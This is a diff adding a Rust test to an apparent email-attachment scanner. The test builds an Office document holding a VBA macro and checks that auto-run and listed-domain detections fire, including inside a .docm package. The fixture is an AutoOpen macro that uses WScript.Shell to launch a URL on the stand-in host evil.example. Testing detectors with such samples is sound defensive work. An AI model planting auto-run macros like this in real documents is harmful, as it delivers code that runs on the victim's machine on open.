@@ -251,6 +251,47 @@ fn files_are_told_by_content_and_by_name_also_inside_archives() {
     );
 }
 
+/// A text as the macro of a document, in the form that [MS-OVBA] section 2.4.1 allows for text that is not compressed much.
+fn macro_document(text: &[u8]) -> Vec<u8> {
+    let mut module = b"before the text\x01".to_vec();
+    for chunk in text.chunks(800) {
+        let tokens: Vec<u8> = chunk.chunks(8).flat_map(|eight| [&[0][..], eight].concat()).collect();
+        module.extend((0xb000 | (tokens.len() as u16 + 2 - 3)).to_le_bytes());
+        module.extend(tokens);
+    }
+    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+    file.create_storage("/VBA").unwrap();
+    file.create_stream("/VBA/_VBA_PROJECT")
+        .unwrap()
+        .write_all(b"cache")
+        .unwrap();
+    file.create_stream("/VBA/ThisDocument")
+        .unwrap()
+        .write_all(&module)
+        .unwrap();
+    file.into_inner().into_inner()
+}
+
+#[test]
+fn macros_are_unpacked_and_read() {
+    let text = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n CreateObject(\"WScript.Shell\").Run \"https://evil.example/x\"\r\nEnd Sub\r\n";
+    let document = macro_document(text.as_bytes());
+    assert_eq!(
+        reasons(&judge(&attachment("letter.doc", &document)).0),
+        [
+            "type:macro_document @ letter.doc",
+            "yara:Office_Macro_Auto_Run @ letter.doc › VBA/ThisDocument"
+        ]
+    );
+    let package = zip(&[("[Content_Types].xml", b"<x/>"), ("word/vbaProject.bin", &document)]);
+    let listed = scanner("domain,evil.example", Limits::default());
+    let found = reasons(&judge_with(&listed, &attachment("letter.docm", &package), &default_policy()).0);
+    for rule in ["yara:Office_Macro_Auto_Run", "object:domain:evil.example"] {
+        let reason = format!("{rule} @ letter.docm › word/vbaProject.bin › VBA/ThisDocument");
+        assert!(found.contains(&reason), "{found:?}");
+    }
+}
+
 #[test]
 fn what_is_switched_off_is_not_looked_for() {
     let mail = attachment("eicar.exe", eicar().as_bytes());
